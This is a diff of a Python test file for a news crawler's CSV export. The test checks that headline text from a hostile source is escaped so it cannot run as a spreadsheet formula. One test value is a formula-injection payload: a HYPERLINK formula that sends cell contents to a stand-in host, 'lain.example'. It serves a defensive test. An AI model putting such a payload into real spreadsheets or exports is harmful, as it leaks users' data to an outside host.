@@ -3,14 +3,13 @@
 from __future__ import annotations
 
 import csv
-import subprocess
-import sys
 from pathlib import Path
 
 import pytest
 
 from demo import EmbeddedNewsroom
-from tests.crawling import ROOT, crawl
+from tests.crawling import crawl
+from tests.forked import scrapy
 
 FORMULAS = {
     '=HYPERLINK("http://lain.example/?a="&A2,"Klik")': "'=HYPERLINK(",
@@ -37,13 +36,8 @@ def test_no_headline_of_a_hostile_newsroom_becomes_a_formula(
     ended = crawl(newsroom, tmp_path, "-a", f"source={source}")
     assert (ended.code, ended.run.new) == (0, 37)
     path = tmp_path / "berita.csv"
-    subprocess.run(
-        [
-            sys.executable, "-m", "scrapy", "export", "progres", "--to", "csv", "-o", str(path),
-            "-s", f"ARCHIVE_DIR={tmp_path}",
-        ],
-        cwd=ROOT, check=True, capture_output=True,
-    )  # fmt: skip
+    options = ("-o", str(path), "-s", f"ARCHIVE_DIR={tmp_path}")
+    assert scrapy("export", "progres", "--to", "csv", *options).returncode == 0
     with path.open(encoding="utf-8-sig", newline="") as file:
         rows = {row["url"]: row for row in csv.DictReader(file)}
     assert len(rows) == 37
